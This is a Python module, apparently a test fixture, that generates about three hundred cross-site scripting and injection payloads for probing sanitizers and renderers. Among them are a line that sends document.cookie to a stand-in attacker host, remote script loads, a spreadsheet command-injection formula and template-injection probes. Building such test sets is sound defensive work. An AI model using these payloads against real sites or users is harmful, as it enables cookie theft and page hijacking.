"""Three hundred ways to make a page run what it was only to show.

Each calls ``alert`` or fetches from evil.example, so that whoever lets one through is found out.
"""

from itertools import product

_DEEDS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/p.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example/><button autofocus>x</form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<p style='background:url(//evil.example/b.png)'>x</p>",
    "<audio src=//evil.example/a.mp3 autoplay onerror=alert(1)>",
)
_ESCAPES = ("", '">', "'>", "</title>", "</textarea>", "</script>", "--><!-- -->", "]]>", '\\">')
_OTHERS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](http://evil.example/i.png)",
    "![x](x \"onerror=alert(1)\")",
    "<http://evil.example/onload=alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "{% for x in range(9) %}{{x}}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "=cmd|'/c calc'!A1",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<a\u00a0href=javascript:alert(1)>x",
    "<x contenteditable onblur=alert(1)>x",
    "</p><script>alert(1)</script><p>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "~~<script>alert(1)</script>~~",
    "> <svg/onload=alert(1)>",
    "# <img/src=x/onerror=alert(1)>",
    "- [ ] <script>alert(1)</script>",
    "<img src='x' onerror='fetch(\"//evil.example/\"+document.cookie)'>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<svg><use href=//evil.example/x.svg#x></svg>",
    "<a href=//evil.example/ ping=//evil.example/ping>x</a>",
    "<script type=module>import'//evil.example/x.js'</script>",
    "<button popovertarget=x onclick=alert(1)>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "\"-alert(1)-\"",
)  # fmt: skip

PAYLOADS = [*(a + b for a, b in product(_ESCAPES, _DEEDS)), *_OTHERS]


def packs(limit: int) -> list[str]:
    """All payloads, as many to a text as have room in it."""
    found: list[str] = []
    for payload in PAYLOADS:
        if found and len(found[-1]) + len(payload) < limit:
            found[-1] += " " + payload
        else:
            found.append(payload[:limit])
    return found
